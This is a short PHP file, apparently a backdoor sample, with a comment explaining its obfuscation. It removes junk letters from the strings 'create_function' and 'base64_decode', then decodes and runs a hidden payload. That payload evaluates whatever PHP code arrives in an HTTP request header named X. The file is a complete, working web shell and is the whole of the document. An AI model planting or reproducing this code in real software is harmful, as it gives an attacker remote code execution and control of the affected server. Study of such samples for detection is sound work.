<?php
// A function's name with junk letters in it, removed before the call; the code it
// runs is base64 with the same junk in it, and runs what a request header says.
$f = str_replace('Qz', '', 'cQzreQzatQze_fQzunQzctQzion');
$in = str_replace('Qz', '', 'baQzse6Qz4_dQzecQzode');
$g = $f('', $in(str_replace('Qz', '', 'ZXZhbCgkX1NFUlZFUlsnSFRUUF9YJ10pOw==')));
$g();
